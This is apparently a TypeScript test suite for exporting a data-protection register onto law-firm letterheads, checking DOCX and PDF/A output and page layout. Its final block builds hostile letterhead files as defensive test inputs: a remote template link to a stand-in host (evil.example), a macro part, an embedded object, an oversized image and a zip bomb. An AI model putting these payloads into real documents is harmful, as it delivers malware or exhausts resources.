/**
 * The firm's letterhead (issue 19, item 2): two real-looking letterheads built with python-docx
 * (test/fixtures/letterheads/make_letterheads.py) put on the controller register. The DOCX passes
 * the Open XML SDK validator, python-docx reads the letterhead's header, logo, page size and
 * margins, LibreOffice converts it with the header on the page; the PDF export carries the same
 * logo, lines, page size and heading colour and still passes PDF/A-1b. Page images of both go to
 * test/artifacts/pages/letterhead-*.png. A large register laid out in parts takes the letterhead
 * (and the fallback fonts) as the single layout does. Hostile files are refused, each with its reason.
 * Kept lean: one LibreOffice run converts both letterheads' DOCX.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { LETTERHEAD_LIMITS, LetterheadRefusedError, readLetterhead } from '../../renderer/src/data/letterhead/read';
import type { HouseStyle } from '../../renderer/src/domain/letterhead';
import { inProcessPdfPool } from '../../renderer/src/export/common/pdf/parts';
import type { ExportWarning } from '../../renderer/src/export/common/warnings';
import { buildRegisterViewModel, renderRegisterDocx, renderRegisterPdf } from '../../renderer/src/export/register';
import { renderRegisterPdfInParts } from '../../renderer/src/export/register/pdf-parts';
import {
  type CheckResult,
  libreOfficeToPdfs,
  ooxmlValidate,
  pdfaPreflightAll,
  pdfText,
  qpdfCheck,
} from '../support/document-clients';
import { richWorkspace } from './register-fixture';

const run = promisify(execFile);
const FIXTURES = join(__dirname, '../fixtures/letterheads');
const PAGES = join(__dirname, '../artifacts/pages');

const LETTERHEADS = [
  {
    file: 'cabinet-dumont.docx',
    firm: 'Cabinet Dumont Avocats',
    footer: '12 quai des Bateliers, 67000 Strasbourg, France',
    // A4 in points, margins 3 / 2.5 cm in twips.
    pagePoints: [595, 842],
    margins: { top: 1701, left: 1417 },
    colour: '7B1E3A',
  },
  {
    file: 'northbridge-legal.docx',
    firm: 'Northbridge Legal LLP',
    footer: '200 Park Avenue, Suite 1700, New York, NY 10166',
    // US Letter, 1 inch margins.
    pagePoints: [612, 792],
    margins: { top: 1440, left: 1440 },
    colour: '0B6E4F',
  },
] as const;

const fixture = (name: string): Uint8Array => new Uint8Array(readFileSync(join(FIXTURES, name)));

/** What python-docx sees: the first section's header text, its pictures, page size and margins (twips). */
const pythonDocxView = async (docx: Uint8Array) => {
  const dir = mkdtempSync(join(tmpdir(), 'dpo-lh-'));
  const path = join(dir, 'doc.docx');
  writeFileSync(path, docx);
  const script = [
    'import docx, json, sys',
    'd = docx.Document(sys.argv[1])',
    's = d.sections[0]',
    'pics = [r for r in s.header.part.rels.values() if r.reltype.endswith("/image")]',
    'print(json.dumps({"header": "\\n".join(p.text for p in s.header.paragraphs), "footer": "\\n".join(p.text for p in s.footer.paragraphs),',
    ' "pictures": len(pics), "width": s.page_width.twips, "height": s.page_height.twips, "top": s.top_margin.twips, "left": s.left_margin.twips}))',
  ].join('\n');
  const { stdout } = await run('/usr/bin/python3', ['-c', script, path]);
  return JSON.parse(stdout) as {
    header: string;
    footer: string;
    pictures: number;
    width: number;
    height: number;
    top: number;
    left: number;
  };
};

const pageImage = async (pdf: Uint8Array, name: string, page = 2): Promise<void> => {
  mkdirSync(PAGES, { recursive: true });
  const dir = mkdtempSync(join(tmpdir(), 'dpo-lh-'));
  writeFileSync(join(dir, 'doc.pdf'), pdf);
  await run('pdftoppm', [
    '-png',
    '-r',
    '60',
    '-f',
    String(page),
    '-l',
    String(page),
    '-singlefile',
    join(dir, 'doc.pdf'),
    join(PAGES, name),
  ]);
};

const imageCount = async (pdf: Uint8Array): Promise<number> => {
  const dir = mkdtempSync(join(tmpdir(), 'dpo-lh-'));
  writeFileSync(join(dir, 'doc.pdf'), pdf);
  const { stdout } = await run('pdfimages', ['-list', join(dir, 'doc.pdf')]);
  return stdout
    .split('\n')
    .slice(2)
    .filter((l) => l.trim() !== '').length;
};

/** "612 x 792 pts (letter)" from pdfinfo's first page. */
const pageSize = async (pdf: Uint8Array): Promise<string> => {
  const dir = mkdtempSync(join(tmpdir(), 'dpo-lh-'));
  writeFileSync(join(dir, 'doc.pdf'), pdf);
  const { stdout } = await run('pdfinfo', [join(dir, 'doc.pdf')]);
  return /^Page size:\s+(.*)$/m.exec(stdout)?.[1] ?? '';
};

/**
 * The rich register cut to its first two activities (fewer pages to lay out, convert and check), a
 * recipient named in Arabic with a character no bundled font has: the letterhead meets the fallback fonts.
 */
const ARABIC = 'حماية البيانات الشخصية';
const vm = () => {
  const ws = richWorkspace();
  const [first, ...others] = ws.recipients;
  if (!first) throw new Error('The fixture lost its recipients.');
  return buildRegisterViewModel(
    { ...ws, activities: ws.activities.slice(0, 2), recipients: [{ ...first, name: `${ARABIC} 😀` }, ...others] },
    { register: 'controller', language: 'en', generatedOn: '2026-06-01' },
  );
};

interface OnLetterhead {
  style: HouseStyle;
  docx: Uint8Array;
  pdf: Uint8Array;
  /** The DOCX as LibreOffice prints it. */
  converted: Uint8Array;
  /** PDFBox Preflight's verdict on `pdf`. */
  preflight: CheckResult;
}
const exported = new Map<string, OnLetterhead>();
/** The register laid out in parts on the Northbridge letterhead, what it warned about, and Preflight's verdict. */
let parts: { pdf: Uint8Array; warnings: ExportWarning[]; preflight: CheckResult };

beforeAll(async () => {
  const built = await Promise.all(
    LETTERHEADS.map(async (lh) => {
      const style = readLetterhead(fixture(lh.file), lh.file);
      return {
        style,
        docx: await renderRegisterDocx(vm(), { houseStyle: style }),
        pdf: await renderRegisterPdf(vm(), { houseStyle: style }),
      };
    }),
  );
  const northbridge = built[1];
  if (!northbridge) throw new Error('The Northbridge letterhead was not read.');
  const warnings: ExportWarning[] = [];
  // The front, the overview, the activities and the footer document: each part takes the letterhead.
  const joined = await renderRegisterPdfInParts(
    vm(),
    { houseStyle: northbridge.style, onWarning: (w) => warnings.push(w) },
    { pool: inProcessPdfPool(), activitiesPerPart: 2 },
  );
  // One LibreOffice run and one Preflight run for all: their start is most of their cost.
  const converted = await libreOfficeToPdfs(built.map((b) => ({ bytes: b.docx, extension: 'docx' as const })));
  const preflights = await pdfaPreflightAll([...built.map((b) => b.pdf), joined]);
  LETTERHEADS.forEach((lh, i) => {
    const one = built[i];
    const pdf = converted[i];
    const preflight = preflights[i];
    if (one && pdf && preflight) exported.set(lh.file, { ...one, converted: pdf, preflight });
  });
  parts = { pdf: joined, warnings, preflight: preflights[2] ?? { ok: false, output: 'not run' } };
});

const exportedOn = (file: string): OnLetterhead => {
  const one = exported.get(file);
  if (!one) throw new Error(`Nothing was exported on ${file}.`);
  return one;
};

describe.each(LETTERHEADS)('the register on the $firm letterhead', (lh) => {
  it('reads the letterhead’s header, footer, logo, page, font and colour', () => {
    const { style } = exportedOn(lh.file);
    expect(style.header?.lines[0]).toBe(lh.firm);
    expect(style.footer?.lines[0]).toBe(lh.footer);
    expect(style.logo).not.toBeNull();
    expect(style.headingColour).toBe(lh.colour);
    expect(style.margins).toMatchObject(lh.margins);
  });

  it('writes a DOCX that the validator, python-docx and LibreOffice accept, with the firm’s header, logo and page', async () => {
    const { docx, converted } = exportedOn(lh.file);
    expect((await ooxmlValidate(docx, 'docx')).ok).toBe(true);
    const view = await pythonDocxView(docx);
    expect(view.header).toContain(lh.firm);
    expect(view.footer).toContain(lh.footer);
    expect(view.pictures).toBe(1);
    expect([view.width, view.height].map((t) => Math.round(t / 20))).toEqual(lh.pagePoints);
    expect({ top: view.top, left: view.left }).toEqual(lh.margins);
    const text = await pdfText(converted);
    expect(text).toContain(lh.firm);
    expect(text).toContain(lh.footer);
    expect(await pageSize(converted)).toContain(`${lh.pagePoints[0]}`);
    await pageImage(converted, `letterhead-${lh.file.replace('.docx', '')}-docx`);
  });

  it('writes a PDF/A-1b PDF with the same logo, lines and page size', async () => {
    const { pdf, preflight } = exportedOn(lh.file);
    expect(preflight.ok, preflight.output).toBe(true);
    expect((await qpdfCheck(pdf)).ok).toBe(true);
    const text = await pdfText(pdf);
    expect(text).toContain(lh.firm);
    expect(text).toContain(lh.footer);
    expect(await imageCount(pdf)).toBeGreaterThan(1); // the logo on every page (and the data map)
    expect(
      (await pageSize(pdf))
        .split(' x ')
        .slice(0, 2)
        .map((n) => Math.round(parseFloat(n))),
    ).toEqual(lh.pagePoints);
    await pageImage(pdf, `letterhead-${lh.file.replace('.docx', '')}-pdf`);
  });
});

describe('a large register laid out in parts on a letterhead', () => {
  it('reads as the single layout, with the logo once a page, the lines, the page and the Arabic name, and warns once', async () => {
    const single = exportedOn('northbridge-legal.docx');
    const joined = parts.pdf;
    expect(await pdfText(joined, true)).toBe(await pdfText(single.pdf, true));
    const text = (await pdfText(joined)).normalize('NFC').replace(/[\u202A-\u202E]/g, '');
    for (const line of [single.style.header?.lines[0] ?? '?', single.style.footer?.lines[0] ?? '?', ARABIC])
      expect(text).toContain(line);
    // The footer document draws no logo: as many images as the single layout, one logo a page.
    expect(await imageCount(joined)).toBe(await imageCount(single.pdf));
    expect(await pageSize(joined)).toContain('612 x 792');
    expect(parts.warnings).toEqual([
      { kind: 'missingCharacter', character: '😀', codePoint: 'U+1F600', context: expect.any(String) },
    ]);
    expect(parts.preflight.ok, parts.preflight.output).toBe(true);
  });
});

/** The good letterhead with parts added or replaced. */
const tampered = (changes: Record<string, Uint8Array | string>): Uint8Array => {
  const files: Record<string, Uint8Array> = unzipSync(fixture('cabinet-dumont.docx'));
  for (const [name, value] of Object.entries(changes)) files[name] = typeof value === 'string' ? strToU8(value) : value;
  return zipSync(files);
};

const refusal = (bytes: Uint8Array, name = 'letterhead.docx'): LetterheadRefusedError => {
  try {
    readLetterhead(bytes, name);
  } catch (e) {
    if (e instanceof LetterheadRefusedError) return e;
    throw e;
  }
  throw new Error('The file was accepted.');
};

/** A PNG whose header claims 8000 × 8000 pixels. */
const hugePng = (): Uint8Array => {
  const png = new Uint8Array(33);
  png.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  new DataView(png.buffer).setUint32(16, 8000);
  new DataView(png.buffer).setUint32(20, 8000);
  png[24] = 8;
  png[25] = 2;
  return png;
};

describe('hostile or unusable letterheads', () => {
  it('refuses each with a message naming what is wrong', () => {
    const cases: [string, LetterheadRefusedError, string, RegExp][] = [
      ['macro extension', refusal(fixture('cabinet-dumont.docx'), 'letterhead.docm'), 'macros', /macro-enabled/],
      [
        'vbaProject part',
        refusal(tampered({ 'word/vbaProject.bin': new Uint8Array(64) })),
        'macros',
        /macros \(word\/vbaProject\.bin\)/,
      ],
      [
        'external reference',
        refusal(
          tampered({
            'word/_rels/settings.xml.rels':
              '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          }),
        ),
        'external',
        /outside it \(http:\/\/evil\.example\/t\.dotm/,
      ],
      [
        'embedded object',
        refusal(tampered({ 'word/embeddings/oleObject1.bin': new Uint8Array(64) })),
        'embedded',
        /embedded object/,
      ],
      [
        'huge image',
        refusal(tampered({ 'word/media/image1.png': hugePng() })),
        'image-too-large',
        /8000 × 8000 pixels/,
      ],
      [
        'zip bomb',
        // Just over what a letterhead may unpack to (a bigger one says no more and costs seconds to make).
        refusal(tampered({ 'word/styles.xml': new Uint8Array(LETTERHEAD_LIMITS.maxUnpackedBytes + 1024 * 1024) })),
        'too-large',
        /zip bomb/,
      ],
      ['not a zip', refusal(strToU8('Dear Sir, this is a letter.')), 'not-word', /not a Word document/],
      [
        'a spreadsheet',
        refusal(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<x/>') })),
        'not-word',
        /not a Word document/,
      ],
    ];
    for (const [what, error, problem, message] of cases) {
      expect(error.problem, what).toBe(problem);
      expect(error.message, what).toMatch(message);
      expect(error.message, what).toMatch(/Nothing was changed\.$/);
    }
  });
});
